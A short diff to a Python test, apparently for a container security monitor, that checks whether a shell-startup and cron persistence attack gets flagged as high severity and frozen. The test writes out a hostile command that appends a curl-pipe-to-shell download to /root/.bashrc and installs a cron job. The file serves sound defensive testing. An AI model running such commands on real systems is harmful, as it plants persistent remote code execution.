@@ -259,7 +259,8 @@ def test_persistence_in_a_shell_startup_file_freezes(mon: Monitor) -> None:
         f"echo 'curl -s http://{GATEWAY}:9/u.sh | sh' >> /root/.bashrc; "
         "echo '* * * * * /tmp/.u' | busybox crontab -; sleep 30",
     )
-    record = mon.threat(name, {"persist.shell-rc"})
+    # seen by the command-line rules and by the sensitive-file watcher: the first pauses
+    record = mon.threat(name, {"persist.shell-rc", "file.startup-write", "file.cron-write"})
     assert record["level"] == "high" and record["action"] == "paused"
     assert record["category"] == "persistence"
     mon.assert_status(name, "Frozen")
